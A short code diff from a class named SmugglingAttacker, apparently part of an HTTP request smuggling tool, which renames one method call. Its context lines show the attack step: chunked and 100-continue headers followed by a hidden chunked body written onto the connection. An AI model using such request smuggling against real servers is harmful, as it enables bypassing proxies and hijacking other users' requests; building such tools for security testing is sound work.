@@ -40,7 +40,7 @@ export class SmugglingAttacker {
       carrierPath,
       'Transfer-Encoding: chunked\r\nExpect: 100-continue\r\n',
     );
-    if (await connection.isContinued())
+    if (await connection.waitForContinue())
       connection.write(`${this.#hidden.length.toString(16)}\r\n${this.#hidden}\r\n0\r\n\r\n`);
     await connection.next(this.#method);
     connection.close();
